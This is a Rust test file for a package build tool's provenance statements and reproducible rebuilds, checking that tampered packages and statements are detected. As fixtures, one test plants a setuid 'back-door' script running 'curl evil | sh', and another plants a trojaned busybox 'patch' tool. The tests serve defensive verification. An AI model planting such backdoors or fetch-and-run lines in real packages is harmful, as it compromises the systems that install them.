//! How packages were made is stated, and they are built again from what is recorded.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use apk::package::{Package, PackageContents};
use apk::repository::{Access, AccessSettings, Repository};
use archive::tree::{FileTree, Node, TreePath};
use attest::dsse::Envelope;
use attest::intoto::Statement;
use attest::slsa::{PREDICATE_TYPE, Provenance};
use base::{Arch, Digest, Event, Reporter};
use polpo_build::compare::Aspect;
use polpo_build::executor::LocalExecutor;
use polpo_build::plan::PlannedStep;
use polpo_build::provenance::{BuildFacts, ProvenanceError, Voucher, beside};
use polpo_build::rebuild::{RebuildError, RebuildOptions, RebuildReport, Verdict, rebuild};
use polpo_build::recipe::ResolvedRecipe;
use polpo_build::signing::SigningProcess;
use store::Store;

use crate::recipe::{EPOCH, Workshop};
use crate::support::{init_program, runtime};

/// How a package is built again.
#[derive(Default)]
struct Again<'a> {
    store: Option<&'a Path>,
    source_folder: Option<PathBuf>,
    signer: Option<&'a SigningProcess>,
    without_repository: bool,
    reporter: Option<&'a dyn Reporter>,
}

fn again(
    workshop: &Workshop,
    package: &Path,
    how: Again<'_>,
) -> Result<RebuildReport, RebuildError> {
    let store = match how.store {
        Some(path) => Store::open(path).unwrap(),
        None => workshop.executor.store().clone(),
    };
    let executor = LocalExecutor::new(store.clone(), init_program()).unwrap();
    let access = Access::new(
        store.clone(),
        store::Network::offline(),
        AccessSettings::default(),
    );
    let mut repositories = vec![Repository::folder(workshop.path("seed"))];
    if how.without_repository {
        repositories.clear();
    }
    let options = RebuildOptions {
        repositories: &repositories,
        keyring: &workshop.keyring,
        access: &access,
        origins: &workshop.origins,
        source_folder: how.source_folder.as_deref(),
        provenance: None,
        trusted: &[workshop.signer.public().clone()],
        signer: how.signer,
        out: None,
    };
    runtime().block_on(rebuild(
        &store,
        &executor,
        package,
        &options,
        how.reporter.unwrap_or(&workshop.lines),
    ))
}

fn package_of(workshop: &Workshop) -> PathBuf {
    let folder = workshop.path("out").join(Arch::host().apk());
    folder.join("hello-1.0-r2.apk")
}

/// The package that was built without a key, with its provenance beside it.
fn unsigned(workshop: &Workshop, recipe: &ResolvedRecipe) -> (PathBuf, Digest) {
    workshop
        .build_with(recipe, |options| {
            options.provenance = true;
            options.signer = None;
        })
        .unwrap();
    let package = package_of(workshop);
    let digest = Digest::of(&fs::read(&package).unwrap());
    (package, digest)
}

#[test]
fn a_statement_says_how_a_package_was_made() {
    let workshop = Workshop::new();
    let recipe = workshop.recipe("");
    let built = workshop
        .build_with(&recipe, |options| options.provenance = true)
        .unwrap();
    let package = package_of(&workshop);
    let line = fs::read(beside(&package)).unwrap();
    let envelope = Envelope::from_json(&line).unwrap();
    let verified = envelope
        .verify(&[workshop.signer.public().clone()])
        .unwrap();
    let statement = Statement::<Provenance>::from_verified(&verified).unwrap();
    // The subject is the file itself.
    let digest = Digest::of(&fs::read(&package).unwrap());
    statement.expect(PREDICATE_TYPE, &digest).unwrap();
    assert_eq!(statement.subject[0].name, "hello-1.0-r2.apk");
    let definition = &statement.predicate.build_definition;
    let named: Vec<(&str, Option<&String>)> = definition
        .resolved_dependencies
        .iter()
        .map(|one| (one.uri.as_str(), one.digest.get("sha256")))
        .collect();
    let busybox = &built.plan.guest[0];
    let guest = format!("pkg:apk/busybox@1.35.0-r0?arch={}", Arch::host());
    let source = "https://example.org/hello-1.0.tar.gz";
    assert!(named.contains(&(guest.as_str(), Some(&busybox.digest.hex()))));
    assert!(named.contains(&(source, Some(&workshop.source.hex()))));
    assert!(named.contains(&("", Some(&built.plan.files[0].digest.hex()))));
    assert_eq!(definition.external_parameters["sourceDateEpoch"], EPOCH.0);
    assert_eq!(
        definition.external_parameters["recipe"]["package"]["name"],
        "hello"
    );
    let text = String::from_utf8(verified.payload().to_vec()).unwrap();
    let here = workshop.folder.path().display().to_string();
    assert!(!text.contains(&here), "{text}");

    // openssl knows nothing of polpo, and finds the signature good.
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, bytes: &[u8]| {
        let path = folder.path().join(name);
        fs::write(&path, bytes).unwrap();
        path
    };
    let key = write("key", workshop.signer.public().to_pem().as_bytes());
    let signature = write("signature", &envelope.signatures()[0].bytes);
    let message = attest::dsse::pae("application/vnd.in-toto+json", verified.payload());
    let message = write("message", &message);
    let checked = Command::new("openssl")
        .args(["dgst", "-sha256", "-verify"])
        .arg(key)
        .arg("-signature")
        .arg(signature)
        .arg(message)
        .output()
        .unwrap();
    assert!(checked.status.success(), "{checked:?}");

    // Elsewhere, with nothing kept: the same package and the same statement.
    let other = tempfile::tempdir().unwrap();
    let store = Store::open(other.path().join("store")).unwrap();
    let executor = LocalExecutor::new(store.clone(), init_program()).unwrap();
    let elsewhere = other.path().join("elsewhere");
    let out = elsewhere.join(Arch::host().apk());
    workshop
        .build_elsewhere(&recipe, &executor, &elsewhere, |options| {
            options.provenance = true;
        })
        .unwrap();
    assert_eq!(
        fs::read(out.join("hello-1.0-r2.apk")).unwrap(),
        fs::read(&package).unwrap()
    );
    assert_eq!(
        fs::read(beside(&out.join("hello-1.0-r2.apk"))).unwrap(),
        line
    );
}

#[test]
fn statements_about_something_else_are_refused() {
    let workshop = Workshop::new();
    let recipe = workshop.recipe("");
    let (package, digest) = unsigned(&workshop, &recipe);
    let path = beside(&package);
    let (facts, voucher) = BuildFacts::read(&path, &digest, &[]).unwrap();
    assert_eq!(voucher, Voucher::Nobody);
    assert_eq!(facts.parameters.namespace, "polpo");
    let error = BuildFacts::read(&path, &Digest::of(b"other"), &[]).unwrap_err();
    assert!(
        matches!(error, ProvenanceError::Statement { .. }),
        "{error}"
    );
    let text = fs::read_to_string(&path).unwrap();
    let changes = [
        (
            text.replace("urn:polpo:build-type:package:v1", "x"),
            "build type `x`",
        ),
        (text.replace("patch -p1", "patch -p2"), "names the plan"),
        (
            text.replace("slsa.dev/provenance/v1", "x"),
            "no statement with the predicate",
        ),
        (
            text.replace("\"subject\"", "\"subjects\""),
            "missing field `subject`",
        ),
        (String::new(), "no statement with the predicate"),
    ];
    // Steps that the recipe has not, in a plan that is otherwise in order.
    let mut sly = facts.clone();
    for step in &mut sly.plan.steps {
        if let PlannedStep::Run { script, .. } = step {
            script.push_str("\ntrue");
        }
    }
    let line = sly.line("hello-1.0-r2.apk", digest, "1", None).unwrap();
    fs::write(&path, line).unwrap();
    let error = again(&workshop, &package, Again::default()).unwrap_err();
    assert!(matches!(error, RebuildError::OtherPlan { .. }), "{error}");
    for (changed, wanted) in changes {
        fs::write(&path, changed).unwrap();
        let error = BuildFacts::read(&path, &digest, &[]).unwrap_err();
        assert!(error.to_string().contains(wanted), "{error}");
    }
}

#[test]
fn a_package_is_built_again() {
    let workshop = Workshop::new();
    let recipe = workshop.recipe("");
    workshop
        .build_with(&recipe, |options| options.provenance = true)
        .unwrap();
    let package = package_of(&workshop);
    let signer = Some(&workshop.signer);
    let report = again(
        &workshop,
        &package,
        Again {
            signer,
            ..Again::default()
        },
    )
    .unwrap();
    assert_eq!(report.verdict, Verdict::Identical, "{report}");
    let signed = Voucher::Keys(vec![workshop.signer.public().id()]);
    assert_eq!(report.provenance, Some(signed));
    assert_eq!(report.to_string(), "hello-1.0-r2: the same, byte by byte");
    // All that is needed is in the store; a package that is not signed is the same package.
    let how = Again {
        without_repository: true,
        ..Again::default()
    };
    let report = again(&workshop, &package, how).unwrap();
    assert_eq!(report.verdict, Verdict::IdenticalButSignature, "{report}");

    // Where nothing is kept, the guest comes from the repository and the source from its mirror;
    // the patch is nowhere but beside the recipe.
    let other = tempfile::tempdir().unwrap();
    let store = Some(other.path());
    let how = Again {
        store,
        without_repository: true,
        ..Again::default()
    };
    let error = again(&workshop, &package, how).unwrap_err().to_string();
    assert!(error.contains("busybox-1.35.0-r0"), "{error}");
    let error = again(
        &workshop,
        &package,
        Again {
            store,
            ..Again::default()
        },
    )
    .unwrap_err();
    assert!(error.to_string().contains("louder.patch"), "{error}");
    let source_folder = Some(workshop.path("recipe/hello"));
    let how = Again {
        store,
        source_folder,
        signer,
        ..Again::default()
    };
    let report = again(&workshop, &package, how).unwrap();
    assert_eq!(report.verdict, Verdict::Identical, "{report}");

    // Without a statement the package itself has to do.
    fs::remove_file(beside(&package)).unwrap();
    let source_folder = Some(workshop.path("recipe/hello"));
    let how = Again {
        source_folder,
        signer,
        ..Again::default()
    };
    let report = again(&workshop, &package, how).unwrap();
    assert_eq!(report.verdict, Verdict::Identical, "{report}");
    assert_eq!(report.notes.len(), 1, "{report}");
}

#[test]
fn what_differs_is_named() {
    let workshop = Workshop::new();
    let recipe = workshop.recipe("");
    workshop.build_with(&recipe, |_| {}).unwrap();
    let honest = Package::open(&package_of(&workshop)).unwrap();
    let files = workshop.path("unpacked");
    fs::create_dir(&files).unwrap();
    honest.unpack(&files, &archive::Limits::default()).unwrap();
    let mut tree = FileTree::scan(&files).unwrap();
    for (_, node) in tree.iter_mut() {
        (node.uid, node.gid) = (0, 0);
        node.user = "root".to_owned();
        node.group = "root".to_owned();
    }
    let hello = tree.get_mut("usr/bin/hello").unwrap();
    *hello = Node {
        mode: 0o4755,
        ..Node {
            user: "root".to_owned(),
            group: "root".to_owned(),
            ..Node::file(&b"#!/bin/sh\ncurl evil | sh\n"[..])
        }
    };
    let hello = hello.clone();
    tree.insert(TreePath::new("usr/bin/back-door").unwrap(), hello);
    let mut info = honest.info().clone();
    info.description = "Says more".to_owned();
    let contents = PackageContents {
        info,
        scripts: honest.scripts().clone(),
        extras: honest.extras().clone(),
        tree: &tree,
    };
    let tampered = workshop.path("hello-1.0-r2.apk");
    apk::package::write(&tampered, &contents, Some(&workshop.maker), EPOCH).unwrap();
    let source_folder = Some(workshop.path("recipe/hello"));
    let how = Again {
        source_folder,
        signer: Some(&workshop.signer),
        ..Again::default()
    };
    let report = again(&workshop, &tampered, how).unwrap();
    assert_eq!(report.verdict, Verdict::Different);
    let found: Vec<(&str, &Aspect)> = report
        .comparison
        .differences
        .iter()
        .map(|difference| (difference.path.as_str(), &difference.aspect))
        .collect();
    assert_eq!(
        found,
        [
            ("usr/bin/back-door", &Aspect::Presence),
            ("usr/bin/hello", &Aspect::Mode),
            ("usr/bin/hello", &Aspect::Contents),
            (".PKGINFO", &Aspect::Field("pkgdesc".to_owned())),
        ],
        "{report}"
    );
    let text = report.to_string();
    assert!(
        text.contains("line 2 `curl evil | sh`, now line 2 `echo HELLO, WORLD`"),
        "{text}"
    );
}

#[test]
fn a_guest_package_is_what_its_identity_says_whatever_blob_a_statement_names() {
    let workshop = Workshop::new();
    let recipe = workshop.recipe("");
    let (package, digest) = unsigned(&workshop, &recipe);
    let path = beside(&package);
    let (mut facts, _) = BuildFacts::read(&path, &digest, &[]).unwrap();
    // Another busybox lies in the store, as whoever can fetch anything into it can have it.
    let honest = facts.plan.guest[0].digest;
    let store = workshop.executor.store();
    let busybox = Package::open(&store.path(&honest).unwrap()).unwrap();
    let files = workshop.path("unpacked");
    fs::create_dir(&files).unwrap();
    busybox.unpack(&files, &archive::Limits::default()).unwrap();
    fs::write(files.join("bin/patch"), "#!/bin/sh\necho EVIL > hello.sh\n").unwrap();
    let contents = PackageContents {
        info: busybox.info().clone(),
        scripts: busybox.scripts().clone(),
        extras: busybox.extras().clone(),
        tree: &FileTree::scan(&files).unwrap(),
    };
    let evil = workshop.path("evil.apk");
    apk::package::write(&evil, &contents, None, EPOCH).unwrap();
    facts.plan.guest[0].digest = store.put_file(&evil).unwrap().digest;
    let line = facts.line("hello-1.0-r2.apk", digest, "1", None).unwrap();
    fs::write(&path, line).unwrap();

    let how = Again {
        without_repository: true,
        ..Again::default()
    };
    let error = again(&workshop, &package, how).unwrap_err().to_string();
    assert!(error.contains("busybox-1.35.0-r0 (Q1"), "{error}");
    // A repository that lists the identity has the package itself.
    let report = again(&workshop, &package, Again::default()).unwrap();
    assert_eq!(report.verdict, Verdict::Identical, "{report}");
}

/// Writes other bytes into a file as soon as anything is told.
struct Swap<'a> {
    path: &'a Path,
    other: &'a [u8],
}

impl Reporter for Swap<'_> {
    fn report(&self, _: Event<'_>) {
        fs::write(self.path, self.other).unwrap();
    }
}

#[test]
fn what_is_said_of_a_rebuild_is_said_of_the_bytes_that_were_compared() {
    let workshop = Workshop::new();
    let recipe = workshop.recipe("");
    workshop.build_with(&recipe, |_| {}).unwrap();
    let package = package_of(&workshop);
    let before = fs::read(&package).unwrap();
    let identities = Package::open(&package).unwrap().identities();
    let other = package.with_file_name("hello-doc-1.0-r2.apk");
    let swap = Swap {
        path: &package,
        other: &fs::read(other).unwrap(),
    };
    let source_folder = Some(workshop.path("recipe/hello"));
    let how = Again {
        source_folder,
        reporter: Some(&swap),
        ..Again::default()
    };
    let report = again(&workshop, &package, how).unwrap();
    assert_ne!(fs::read(&package).unwrap(), before);
    assert_eq!(report.verdict, Verdict::IdenticalButSignature, "{report}");
    assert_eq!(report.original, Digest::of(&before));
    let identities: Vec<String> = identities.iter().map(ToString::to_string).collect();
    assert_eq!(report.identities, identities);
}
